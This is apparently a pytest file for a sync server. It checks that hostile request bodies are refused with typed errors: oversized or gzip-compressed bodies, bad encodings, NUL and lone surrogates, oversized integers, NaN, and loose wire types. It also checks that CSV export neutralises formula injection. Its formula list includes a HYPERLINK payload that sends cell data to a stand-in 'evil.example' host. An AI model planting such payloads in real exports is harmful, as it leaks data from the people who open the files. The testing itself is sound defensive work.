"""Hostile request bodies (issue 12, defects 1, 4 and 7): every one is refused with a
typed error naming the field — never a 500, never applied, never sent on to devices.

* size: the body limit holds for every encoding (plain, ``identity``, gzip), and a
  ``json`` field has its own byte bound, a text field its length bound;
* encodings: anything but gzip/identity is ``415``, a JSON body must be UTF-8;
* values: no ``true`` for an integer, no ``"12"`` for a number, no lone surrogate, no
  NUL, no integer beyond 64 bits, no NaN — on the sync routes and the manager API;
* CSV: a rep's customer named like a formula reaches the manager's export as text.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
from typing import Any

import pytest
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from server.manager.csvout import neutralise, restore_neutralised
from server.middleware import json_problems
from server.models import Record
from tests.server.conftest import Phone, World, build_world, customer_fields, new_id

LIMIT = 64 * 1024  # a small body limit, so the tests send small bodies


@pytest.fixture(scope="module")
def small_world(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """One SQLite world for the many refusals below (each checks nothing changed)."""
    url = f"sqlite:///{tmp_path_factory.mktemp('wire') / 'wire.db'}"
    world, client = build_world(url, max_body_bytes=LIMIT)
    # Server exceptions become 500 answers, as a real client would see them.
    world.client = TestClient(client.app, raise_server_exceptions=False, client=("10.0.0.1", 1))
    with world.client:
        yield world
    world.context.engine.dispose()


@pytest.fixture
def unchanged(small_world: World) -> Any:
    """Asserts, after the test, that the shared world holds no more records than before."""
    before = _records(small_world)
    yield small_world
    assert _records(small_world) == before, "a refused request changed the database"


def _records(world: World) -> int:
    with world.context.sessions() as s:
        return int(s.execute(select(func.count()).select_from(Record)).scalar_one())


def _push_bytes(world: World, phone: Phone, body: bytes, **headers: str) -> Any:
    return world.client.post(
        "/v1/sync/push",
        content=body,
        headers={**phone.headers, "Content-Type": "application/json", **headers},
    )


def _push_body(phone: Phone, fields: dict[str, Any], **extra: Any) -> dict[str, Any]:
    return {
        "device_id": phone.device_id,
        "schema_version": 1,
        "mutations": [phone.mutation("customers", new_id("c"), fields)],
        **extra,
    }


def _error(response: Any) -> tuple[int, str]:
    return response.status_code, response.json()["error"]["code"]


def _fields(response: Any) -> list[str]:
    return [f["field"] for f in response.json()["error"]["details"]["fields"]]


def test_the_body_limit_holds_for_every_encoding(small_world: World) -> None:
    phone = small_world.phone("rep_a1")
    before = _records(small_world)
    big = json.dumps(_push_body(phone, {**customer_fields(), "notes": "x" * LIMIT})).encode()
    assert len(big) > LIMIT
    plain = _push_bytes(small_world, phone, big)
    assert _error(plain) == (413, "payload_too_large")
    identity = _push_bytes(small_world, phone, big, **{"Content-Encoding": "identity"})
    assert _error(identity) == (413, "payload_too_large")
    zipped = _push_bytes(small_world, phone, gzip.compress(big), **{"Content-Encoding": "gzip"})
    assert len(gzip.compress(big)) < LIMIT  # small on the wire, too big once decoded
    assert _error(zipped) == (413, "payload_too_large")

    # Without a Content-Length (chunked upload) the limit is counted while reading.
    def chunks() -> Any:
        for i in range(0, len(big), 4096):
            yield big[i : i + 4096]

    streamed = small_world.client.post(
        "/v1/sync/push",
        content=chunks(),
        headers={**phone.headers, "Content-Type": "application/json"},
    )
    assert _error(streamed) == (413, "payload_too_large")
    assert plain.json()["error"]["details"]["max_body_bytes"] == LIMIT
    assert _records(small_world) == before
    # Just under the limit still works.
    fine = _push_bytes(
        small_world, phone, json.dumps(_push_body(phone, customer_fields())).encode()
    )
    assert fine.status_code == 200 and fine.json()["results"][0]["status"] == "applied"


def test_json_and_text_fields_have_size_bounds(world: World) -> None:
    phone = world.phone("rep_a1")
    huge_custom = {**customer_fields(), "custom": {"blob": "x" * (65 * 1024)}}
    huge_notes = {**customer_fields(), "notes": "字" * 20_001}
    results = phone.push(
        [
            phone.mutation("customers", new_id("c"), huge_custom),
            phone.mutation("customers", new_id("c"), huge_notes),
        ]
    )
    assert [r["status"] for r in results] == ["rejected", "rejected"]
    assert [r["error"]["details"]["fields"][0]["field"] for r in results] == ["custom", "notes"]
    assert {r["error"]["details"]["fields"][0]["code"] for r in results} == {"too_long"}
    assert _records(world) == 0
    ok = phone.push_one("customers", new_id("c"), {**customer_fields(), "custom": {"a": 1}})
    assert ok["status"] == "applied"
    schema = world.client.get("/v1/sync/schema").json()
    assert schema["entities"]["customers"]["fields"]["custom"]["type"] == "json"
    assert "max_bytes" in schema["entities"]["customers"]["fields"]["custom"]


@pytest.mark.parametrize("encoding", ["br", "deflate", "compress", "gzip, br", "x-custom"])
def test_unsupported_content_encodings_answer_415(unchanged: World, encoding: str) -> None:
    phone = unchanged.phone("rep_a1")
    body = json.dumps(_push_body(phone, customer_fields())).encode()
    response = _push_bytes(unchanged, phone, body, **{"Content-Encoding": encoding})
    assert _error(response) == (415, "unsupported_media_type")


def test_json_must_be_utf8(sqlite_world: World) -> None:
    world = sqlite_world
    phone = world.phone("rep_a1")
    body = json.dumps(_push_body(phone, customer_fields()))
    utf16 = _push_bytes(world, phone, body.encode("utf-16"))
    assert _error(utf16) == (422, "validation_failed")
    declared = _push_bytes(
        world, phone, body.encode("utf-16"), **{"Content-Type": "application/json; charset=utf-16"}
    )
    assert _error(declared) == (415, "unsupported_media_type")
    assert _records(world) == 0
    fine = _push_bytes(
        world, phone, body.encode(), **{"Content-Type": "application/json; charset=UTF-8"}
    )
    assert fine.status_code == 200


#: (what the request carries, the field the error names)
BAD_VALUES = [
    ({"name": "\ud800 lone surrogate"}, "mutations.0.fields.name"),
    ({"name": "\udfff"}, "mutations.0.fields.name"),
    ({"name": "nul \x00 inside"}, "mutations.0.fields.name"),
    ({"custom": {"n": 10**30}}, "mutations.0.fields.custom.n"),
    ({"custom": {"n": -(10**19)}}, "mutations.0.fields.custom.n"),
    ({"custom": {"deep": {"\ud800": 1}}}, "mutations.0.fields.custom.deep.'\\ud800'"),
]


@pytest.mark.parametrize(("fields", "where"), BAD_VALUES)
def test_values_no_store_can_carry_are_refused_with_the_field(
    unchanged: World, fields: dict[str, Any], where: str
) -> None:
    phone = unchanged.phone("rep_a1")
    # json.dumps escapes surrogates as \ud800: exactly what a hostile client sends.
    body = json.dumps(_push_body(phone, {**customer_fields(), **fields})).encode()
    response = _push_bytes(unchanged, phone, body)
    assert _error(response) == (422, "validation_failed")
    assert _fields(response) == [where]


def test_nul_and_surrogates_never_reach_postgresql(world: World) -> None:
    """PostgreSQL text refuses NUL and UTF-8 has no surrogates: on either database the
    request is refused before the database sees it (it used to be a 500)."""
    world.client = TestClient(world.client.app, raise_server_exceptions=False)
    phone = world.phone("rep_a1")
    for name in ("a\x00b", "\ud800"):
        body = json.dumps(_push_body(phone, {**customer_fields(), "name": name})).encode()
        response = _push_bytes(world, phone, body)
        assert _error(response) == (422, "validation_failed")
        assert _fields(response) == ["mutations.0.fields.name"]
    assert _records(world) == 0


@pytest.mark.parametrize(
    "raw",
    [
        b'{"device_id": "d", "schema_version": 1, "mutations": [], "x": NaN}',
        b'{"device_id": "d", "schema_version": 1, "mutations": [], "x": 1e999}',
        b'{"device_id": "d", "schema_version": 1, "checkpoint": ' + b"9" * 4400 + b"}",
        b"[" * 5000 + b"]" * 5000,
        b"{not json",
        b'{"device_id": "d"',
    ],
)
def test_unparsable_or_unsafe_json_is_422_never_500(unchanged: World, raw: bytes) -> None:
    phone = unchanged.phone("mgr_a")
    for path in ("/v1/sync/push", "/v1/sync/pull", "/v1/manager/records/customers"):
        response = unchanged.client.post(
            path, content=raw, headers={**phone.headers, "Content-Type": "application/json"}
        )
        assert _error(response) == (422, "validation_failed"), (path, response.text)


@pytest.mark.parametrize(
    ("change", "where"),
    [
        ({"protocol": True}, "protocol"),
        ({"protocol": "1"}, "protocol"),
        ({"schema_version": 1.0}, "schema_version"),
        ({"schema_version": "1"}, "schema_version"),
        ({"pending_total": False}, "pending_total"),
    ],
)
def test_wire_types_are_strict_in_the_request(
    unchanged: World, change: dict[str, Any], where: str
) -> None:
    world = unchanged
    phone = world.phone("rep_a1")
    response = world.client.post(
        "/v1/sync/push",
        json={**_push_body(phone, customer_fields()), **change},
        headers=phone.headers,
    )
    assert _error(response) == (422, "validation_failed")
    assert _fields(response) == [where]


@pytest.mark.parametrize(
    ("change", "where"),
    [
        ({"base_version": "12"}, "mutations.0.base_version"),
        ({"base_version": True}, "mutations.0.base_version"),
        ({"id": 12345}, "mutations.0.id"),
    ],
)
def test_wire_types_are_strict_in_a_mutation(
    unchanged: World, change: dict[str, Any], where: str
) -> None:
    world = unchanged
    phone = world.phone("rep_a1")
    body = _push_body(phone, customer_fields())
    body["mutations"][0].update(change)
    response = world.client.post("/v1/sync/push", json=body, headers=phone.headers)
    assert _error(response) == (422, "validation_failed")
    assert _fields(response) == [where]
    pull = world.client.post(
        "/v1/sync/pull",
        json={"device_id": phone.device_id, "schema_version": 1, "limit": "10"},
        headers=phone.headers,
    )
    assert _error(pull) == (422, "validation_failed")


def test_manager_create_refuses_unsafe_text(unchanged: World) -> None:
    manager = unchanged.phone("mgr_a")
    for name in ("\ud800", "a\x00b"):
        response = unchanged.client.post(
            "/v1/manager/records/customers",
            content=json.dumps({"fields": {"name": name, "status": "intent"}}).encode(),
            headers={**manager.headers, "Content-Type": "application/json"},
        )
        assert _error(response) == (422, "validation_failed")
        assert _fields(response) == ["fields.name"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_export_neutralises_formulas(world: World) -> None:
    rep = world.phone("rep_a1")
    for i, name in enumerate(FORMULAS):
        result = rep.push_one("customers", f"c-formula-{i}", {**customer_fields(), "name": name})
        assert result["status"] == "applied", result
    manager = world.phone("mgr_a")
    response = world.client.get("/v1/manager/export/customers", headers=manager.headers)
    assert response.status_code == 200, response.text
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(response.text))}
    for i, name in enumerate(FORMULAS):
        cell = rows[f"c-formula-{i}"]["name"]
        assert cell == "'" + name, cell
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    # Numbers stay numbers; harmless text stays as it was.
    assert rows["c-formula-0"]["version"].isdigit()
    plain = rep.push_one("customers", "c-plain", customer_fields("李雷"))
    assert plain["status"] == "applied"
    again = world.client.get("/v1/manager/export/customers", headers=manager.headers)
    assert {r["id"]: r for r in csv.DictReader(io.StringIO(again.text))}["c-plain"]["name"] == (
        "李雷"
    )


def test_a_neutralised_export_reads_back_as_it_was() -> None:
    """What the export neutralises, the CSV import restores (export → edit → import keeps
    `+86 …` phone numbers and the names as they were)."""
    for value in [*FORMULAS, "+86 138 0000 0000", "'quoted already", "plain", ""]:
        assert restore_neutralised(neutralise(value)) == value
    assert neutralise("+86 138 0000 0000") == "'+86 138 0000 0000"
    assert neutralise(-5) == -5  # numbers are not text


def _has_unsafe_text(value: Any) -> bool:
    if isinstance(value, str):
        return "\x00" in value or any(0xD800 <= ord(c) <= 0xDFFF for c in value)
    if isinstance(value, list):
        return any(_has_unsafe_text(v) for v in value)
    if isinstance(value, dict):
        return any(_has_unsafe_text(k) or _has_unsafe_text(v) for k, v in value.items())
    return False


#: Short texts, often with NUL or a lone surrogate (``st.text`` never draws surrogates).
_TEXT = st.lists(
    st.characters() | st.sampled_from(["\x00", "\ud800", "\udbff", "\udc00", "\udfff"]),
    max_size=6,
).map("".join)
_JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(2**63), 2**63 - 1)
    | st.floats(allow_nan=False, allow_infinity=False)
    | _TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_TEXT, inner, max_size=3),
    max_leaves=12,
)


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(
    document=_JSON,
    text=_TEXT,
    big=st.integers(min_value=2**63) | st.integers(max_value=-(2**63) - 1),
)
def test_json_problems_refuses_exactly_the_unsafe_documents(
    document: Any, text: str, big: int
) -> None:
    """Any JSON document: refused iff some text (key or value) holds NUL or a lone
    surrogate; an integer outside 64 bits anywhere is refused too."""
    for candidate in (document, [document, text], {text: document}):
        body = json.dumps(candidate).encode()  # surrogates travel as \\udXXX escapes
        assert bool(json_problems(body)) == _has_unsafe_text(candidate), candidate
    wrapped = json.dumps({"doc": document, "n": big}).encode()
    assert any(p["field"] == "n" for p in json_problems(wrapped))
